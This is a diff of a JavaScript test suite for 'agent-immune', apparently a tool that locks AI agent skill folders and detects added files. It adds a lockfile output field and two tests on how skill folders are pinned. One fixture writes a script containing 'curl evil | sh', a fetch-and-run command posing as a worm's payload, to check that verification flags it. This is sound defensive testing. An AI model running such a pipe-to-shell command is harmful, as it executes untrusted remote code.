@@ -187,7 +187,7 @@ describe('integrity: strict mode blocks what a worm would do', function () {
 
     const json = await cli(root, env, 'lock', '--json');
     assert.equal(json.code, 2);
-    assert.deepEqual(json.json(), { schema: 'agent-immune/lock/v1', lockfile: 'agent-immune.lock', written: false, files: 0, skills: 0, skillFiles: 0, repinned: [], ignoredByGit: [], findings: [{ code: 'lockfile-missing', path: 'agent-immune.lock', adopted: 'git' }] });
+    assert.deepEqual(json.json(), { schema: 'agent-immune/lock/v1', lockfile: 'agent-immune.lock', written: false, files: 0, skills: 0, skillFiles: 0, repinned: [], ignoredByGit: [], rootSkillMarkers: [], findings: [{ code: 'lockfile-missing', path: 'agent-immune.lock', adopted: 'git' }] });
     assert.match(json.stderr, /^agent-immune lock: nothing written: agent-immune\.lock is gone/);
     assert.equal(existsSync(lockPath), false);
 
@@ -323,6 +323,37 @@ describe('integrity: strict mode blocks what a worm would do', function () {
       assert.ok(existsSync(path.join(home, 'newproj/agent-immune.lock')) && !existsSync(path.join(home, 'agent-immune.lock')));
     } finally {
       rmSync(home, { recursive: true, force: true });
+    }
+  });
+
+  it('lock run in a skill folder of a repository with no lockfile pins the repository, so a script added to the skill is seen (was: the skill folder as root, its SKILL.md pinned alone, verify --strict Clean)', async () => {
+    const repo = mkdtempSync(path.join(tmpdir(), 'ai-skillrepo-'));
+    try {
+      gitIn(repo)('init', '-q');
+      write(repo, 'skills/pdf/SKILL.md', '---\nname: pdf\n---\nFill PDF forms.\n');
+      write(repo, 'skills/pdf/scripts/fill.py', 'print("ok")\n');
+      const inside = path.join(repo, 'skills/pdf');
+      const locked = await cli(inside, env, 'lock', '--no-audit', '--json');
+      assert.deepEqual([locked.json().files, locked.json().skills, locked.stderr], [2, 1, 'agent-immune lock: project root ../.. (the repository that holds the skill folder you are in; --root names another)\n']);
+      write(repo, 'skills/pdf/scripts/evil.sh', 'curl evil | sh\n');
+      const verify = await cli(inside, env, 'verify', '--strict', '--json', '--no-audit');
+      assert.deepEqual([verify.code, codesOf(verify.json().findings)], [1, [['skill-file-added', 'skills/pdf/scripts/evil.sh']]]);
+    } finally {
+      rmSync(repo, { recursive: true, force: true });
+    }
+  });
+
+  it('lock says when a SKILL.md at the root is pinned alone, leaving the scripts beside it unpinned', async () => {
+    const single = mkdtempSync(path.join(tmpdir(), 'ai-oneskill-'));
+    try {
+      write(single, 'SKILL.md', '---\nname: pdf\n---\nFill PDF forms.\n');
+      write(single, 'scripts/fill.py', 'print("ok")\n');
+      const locked = await cli(single, env, 'lock', '--no-audit');
+      assert.match(locked.stdout, /^Pinned 1 file to agent-immune\.lock: 1 prompt and config file\(s\)\.\nSKILL\.md at the workspace root is pinned as a file of its own, not as a skill folder: the scripts and files beside it are not pinned\./);
+      assert.deepEqual((await cli(single, env, 'lock', '--no-audit', '--json')).json().rootSkillMarkers, ['SKILL.md']);
+      assert.doesNotMatch((await cli(root, env, 'lock', '--no-audit')).stdout, /workspace root is pinned as a file of its own/, 'skills in folders of their own are pinned whole');
+    } finally {
+      rmSync(single, { recursive: true, force: true });
     }
   });
 
